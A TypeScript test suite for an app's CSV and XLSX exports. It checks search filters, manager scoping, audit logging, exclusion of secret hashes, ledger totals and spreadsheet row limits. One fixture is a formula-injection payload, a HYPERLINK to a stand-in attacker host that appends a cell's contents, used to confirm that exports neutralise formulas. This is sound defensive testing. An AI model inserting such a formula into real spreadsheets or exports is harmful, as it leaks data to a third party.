/** Every list as a file, read back by the reader of imports. */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ExportFormat, ExportName } from '../../server/exports/exports.ts';
import type { Asked } from '../../server/exports/list.ts';
import { openTable } from '../../server/imports/table.ts';
import { unguardCell } from '../../server/spreadsheet/guard.ts';
import { foundCompany, record, reverse, sale } from '../support/company.ts';
import { startDatabases } from '../support/databases.ts';
import type { Databases } from '../support/databases.ts';
import { startLocalApp } from '../support/local-app.ts';
import type { LocalApp } from '../support/local-app.ts';
import { MONDAY_MORNING, shiftedClock } from '../support/shifted-clock.ts';
import { unzip } from '../support/unzip.ts';

const clock = shiftedClock(MONDAY_MORNING);
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
const SECRET = 'hash-that-nobody-may-see';

let databases: Databases;
let local: LocalApp;
let folder: string;

const ask = (more: Partial<Asked> & { filters?: Record<string, string> } = {}): Asked => ({
	q: '',
	descending: false,
	filter: (name) => more.filters?.[name],
	within: undefined,
	period: { from: '2026-11-01', to: '2026-11-30' },
	...more
});

async function take(name: ExportName, format: ExportFormat, asked = ask()): Promise<string> {
	const opened = await local.app.exports.open(name, {
		format,
		asked,
		word: (key) => key,
		actor: 'test'
	});
	if (!opened.ok) throw new Error(JSON.stringify(opened.problems));
	const pieces: Buffer[] = [];
	for await (const piece of opened.file.bytes) pieces.push(piece);
	const path = join(folder, `${name}.${format}`);
	await writeFile(path, Buffer.concat(pieces));
	return path;
}

/** Rows by heading, as an import would read them. */
async function readBack(path: string): Promise<Record<string, string>[]> {
	const opened = await openTable(path, {});
	if (!opened.ok) throw new Error(JSON.stringify(opened.problems));
	const { headings, rows, close } = opened.table;
	const found: Record<string, string>[] = [];
	for await (const { cells, problem } of rows(() => {})) {
		expect(problem).toBeUndefined();
		found.push(Object.fromEntries(headings.map((heading, i) => [heading, cells[i] ?? ''])));
	}
	close();
	return found;
}

const taken = async (name: ExportName, asked?: Asked) => readBack(await take(name, 'csv', asked));

beforeAll(async () => {
	folder = await mkdtemp(join(tmpdir(), 'lhb-exports-'));
	databases = await startDatabases();
	local = await startLocalApp({ ...databases, clock });
	const { app, pool } = local;
	await foundCompany(app, '2026-11-01');
	await app.directory.put(
		'customers',
		'd3',
		{ name: FORMULA, kind: 'dealer', owner: 'r4' },
		'test'
	);
	await app.directory.put(
		'customers',
		'00042',
		{ name: '引号"逗号,\t换行', kind: 'retail' } as never,
		'test'
	);
	await app.accounts.create({ code: 'r1', name: '李娜', email: 'li@example.com' }, 'test');
	await app.accounts.create(
		{ code: 'm', name: '经理', leads: ['t3'], phone: '+8613800000000' },
		'test'
	);
	await app.accounts.create({ code: 'a', name: '管理员', administrator: true }, 'test');
	await pool.query('UPDATE accounts SET password_hash = $1', [SECRET]);
	await app.keys.create({ name: 'ERP', scopes: ['read', 'entries'] }, 'test');
	await pool.query('UPDATE api_keys SET secret_hash = $1', [SECRET]);
	await pool.query(
		`INSERT INTO displays (id, name, board, unit_id, secret_hash, rotated_at, paired_at, paired_by)
		SELECT 'tv-' || code, '前台 ' || name, 'sales', id, $1, now(), now(), 'test' FROM units`,
		[SECRET]
	);
	const first = await record(
		app,
		sale('r1', 1_280_050, { at: clock(), customer: 'd1', note: '-2+3' })
	);
	await record(app, {
		...sale('r1', 100_00, { at: clock() }),
		rep: undefined,
		credits: [
			{ rep: 'r1', share: 60 },
			{ rep: 'r7', share: 40 }
		],
		overlays: [{ rep: 'r4', share: 100 }]
	} as never);
	await reverse(app, first);
	await record(app, sale('r7', 55_00, { at: clock() - 40 * 86_400_000 }));
});

afterAll(async () => {
	await local?.close();
	await databases?.stop();
	await rm(folder, { recursive: true, force: true });
});

describe('[ADMIN-6] every list', () => {
	test.each([
		'units',
		'people',
		'memberships',
		'customers',
		'products',
		'metrics',
		'targets',
		'entries',
		'displays',
		'keys',
		'audit'
	] as const)('%s says the same in both formats', async (name) => {
		const csv = await take(name, 'csv');
		const rows = await readBack(csv);
		const book = await readBack(await take(name, 'xlsx'));
		expect(rows.length).toBeGreaterThan(0);
		// Taking the first was written to the audit log, which the second then holds too.
		const newer = name === 'audit' ? book.slice(1) : book;
		expect(newer).toHaveLength(rows.length);
		for (const [i, row] of rows.entries())
			for (const [heading, text] of Object.entries(row))
				expect(plain(newer[i]![heading]!), heading).toBe(plain(unguardCell(text)));
		expect((await readFile(csv, 'utf8')).startsWith('\ufeff')).toBe(true);
	});

	test('there is no other', () => {
		expect(local.app.exports.names).toHaveLength(11);
		for (const name of ['', 'sessions', 'constructor', '__proto__'])
			expect(local.app.exports.actionOf(name)).toBeUndefined();
	});

	test('is taken as it is searched, and that is in the audit log', async () => {
		const found = await taken('customers', ask({ q: '无锡' }));
		expect(found.map(({ code }) => code)).toEqual(['d2']);
		expect(await taken('customers', ask({ filters: { kind: 'retail' } }))).toHaveLength(2);
		expect(await taken('people', ask({ q: 'li@example' }))).toHaveLength(1);
		const { rows } = await local.pool.query(
			`SELECT actor, subject, after FROM audit WHERE action = 'export.take' AND after ? 'q' ORDER BY id LIMIT 1`
		);
		expect(rows).toEqual([
			{ actor: 'test', subject: 'customers', after: { format: 'csv', q: '无锡' } }
		]);
	});

	test('[ADMIN-10] holds no secret', async () => {
		for (const name of local.app.exports.names)
			expect(await readFile(await take(name, 'csv'), 'utf8')).not.toContain(SECRET);
	});
});

/** Excel keeps numbers without trailing zeros and midnights without time. */
const plain = (text: string): string =>
	/^-?\d+\.\d+$/.test(text) ? String(Number(text)) : text.replace(/ 00:00:00$/, '');

test('[ADMIN-7] a formula is guarded in CSV, and text that stays text in a workbook', async () => {
	const csv = await readFile(await take('customers', 'csv'), 'utf8');
	expect(csv).toContain(`"'=HYPERLINK(""http`);
	const path = await take('customers', 'xlsx');
	const book = await readBack(path);
	expect(book.map(({ name }) => name)).toContain(FORMULA);
	// A code keeps its zeros.
	expect(book.map(({ code }) => code)).toContain('00042');
	const [sheet] = await unzip(await readFile(path), 'sheet1');
	expect(sheet).not.toMatch(/<f[ >]/);
	expect(sheet).toContain(`<c s="3" t="inlineStr"><is><t xml:space="preserve">=HYPERLINK`);
});

describe('[ADMIN-9] the ledger of a period', () => {
	test('has a row for each rep credited; amounts sum up to the totals', async () => {
		const rows = await taken('entries');
		const sum = (rep: string) =>
			rows.filter((row) => row.rep === rep).reduce((all, row) => all + Number(row.amount), 0);
		expect(sum('r1')).toBe(60);
		expect(sum('r7')).toBe(40);
		const assist = rows.find(({ rep }) => rep === 'r4')!;
		expect([assist.amount, assist.assist]).toEqual(['', '100.00']);
		const [first] = rows;
		expect(first).toMatchObject({
			amount: '12800.50',
			business_date: '2026-11-23',
			customer: 'd1',
			note: "'-2+3",
			occurred_at: expect.stringMatching(/^2026-11-23 10:0/)
		});
		expect(rows.filter(({ reverses }) => reverses === first!.position)).toHaveLength(1);
	});

	test('holds its days and no others', async () => {
		const october = ask({ period: { from: '2026-10-01', to: '2026-10-31' } });
		expect((await taken('entries', october)).map(({ amount }) => amount)).toEqual(['55.00']);
		expect(
			await taken('entries', ask({ period: { from: '2026-12-01', to: '2026-11-01' } }))
		).toEqual([]);
	});
});

describe('[ADMIN-3] within the units of a manager', () => {
	const mine = ask({ within: ['t3'] });
	const codes = async (name: ExportName, column = 'code') =>
		(await taken(name, mine)).map((row) => row[column]).sort();

	test('customers, people, memberships, displays', async () => {
		expect(await codes('customers')).toEqual(['d2']);
		expect(await codes('people')).toEqual(['m', 'r7', 'r8']);
		expect(await codes('memberships', 'rep')).toEqual(['r7', 'r8']);
		expect(await codes('displays', 'unit')).toEqual(['t3']);
		expect(await codes('units')).toEqual(['t3']);
	});

	test('targets and credits, also of an entry shared with others', async () => {
		expect(await codes('targets')).toEqual(['r7', 'r8', 't3']);
		expect((await taken('entries', mine)).map(({ rep, amount }) => [rep, amount])).toEqual([
			['r7', '40.00']
		]);
	});
});

test('[ADMIN-8] more rows than a sheet holds are refused for XLSX before it begins, not for CSV', async () => {
	await local.pool.query(
		`INSERT INTO audit (at, actor, action, subject)
		SELECT now(), 'test', 'bulk.insert', '' FROM generate_series(1, 1048576)`
	);
	const open = (format: ExportFormat) =>
		local.app.exports.open('audit', { format, asked: ask(), word: (key) => key, actor: 'test' });
	expect(await open('xlsx')).toMatchObject({
		ok: false,
		problems: [{ reason: 'too-many-rows', params: { limit: 1_048_575 } }]
	});
	const csv = await open('csv');
	expect(csv.ok).toBe(true);
	if (csv.ok) await csv.file.bytes.return(undefined);
});
